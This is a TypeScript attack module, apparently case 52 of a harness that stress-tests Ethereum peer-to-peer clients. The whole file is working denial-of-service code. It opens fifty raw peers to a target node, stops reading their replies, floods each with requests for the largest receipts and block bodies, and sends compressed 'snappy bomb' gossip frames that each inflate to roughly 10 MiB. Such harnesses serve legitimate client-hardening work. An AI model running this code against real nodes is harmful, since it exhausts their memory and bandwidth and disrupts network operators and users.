import { EncodedItem, writeItem } from '@ethwire/rlp-codec'
import type { Attack } from '../attack.ts'
import { addresses, connectRawUntil, ethCode, uint } from '../raw-peer.ts'
import { pause } from './pace.ts'
import { listHeader, snappyBomb, unhex } from './payloads.ts'

const greedy = 50
/** More than are read ahead. */
const requestsEach = 40
const gossipBytes = 10 * 1024 * 1024 - 1

/**
 * Case 52: fifty peers ask for the largest answers that there are and read none; behind their questions each sends gossip
 * that would inflate to 10 MiB a message, three times.
 */
export const unread: Attack = async (target, signal) => {
  const did = { peers: 0, requests: 0, gossipMegabytes: 0 }
  const largest = new EncodedItem(writeItem(unhex(target.hashes[target.largestReceipts] as string)))
  const all = target.hashes.map((hash) => new EncodedItem(writeItem(unhex(hash))))
  const gossip = snappyBomb(gossipBytes, listHeader(gossipBytes - 4))
  const ask = async (from: string): Promise<void> => {
    const peer = await connectRawUntil(target, { from }, signal)
    if (peer === undefined) return
    did.peers++
    peer.stopReading()
    for (let index = 0; index < requestsEach; index++) {
      did.requests++
      if (index % 4 < 3) peer.send(ethCode.getReceipts, writeItem([uint(index), uint(0), [largest]]))
      else peer.send(ethCode.getBlockBodies, writeItem([uint(index), all]))
    }
    for (let index = 0; index < 3; index++) {
      peer.socket.write(peer.rawFrame(ethCode.transactions, gossip))
      did.gossipMegabytes += gossipBytes / 1e6
    }
    await Promise.race([peer.closed, pause(60_000, signal)])
    peer.close()
  }
  await Promise.all(addresses(greedy).map(ask))
  return { did, claims: [] }
}
